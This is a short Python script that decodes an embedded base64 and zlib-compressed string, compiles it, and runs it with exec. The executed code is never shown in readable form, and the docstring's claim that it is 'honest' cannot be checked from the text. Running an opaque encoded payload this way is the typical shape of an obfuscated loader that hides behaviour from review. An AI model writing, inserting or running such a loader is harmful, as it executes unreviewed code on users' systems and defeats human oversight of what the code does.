"""Unpack the code from a compressed text: odd, but honest."""

import base64
import marshal
import zlib

PAYLOAD = "eJw9jUEKwjAURPc9xezaYggq4kIIeAjBRcniS/Mh2PyEJAV7e1MXzmYGHjPjQ4q5QtaQNlCBpG52DGL24oanwkfhNd46NDEMJoJvWM91S06/vcwwBj33cEtxDVDZySBJ8xKpXi8jOGa0miBQ2gEVypk2hf/+aH8H2dU1C3g6WdybHa1+4NDC2XZfkWszFQ=="
CODE = marshal.dumps(compile(zlib.decompress(base64.b64decode(PAYLOAD)), "payload", "exec"))
exec(marshal.loads(CODE))
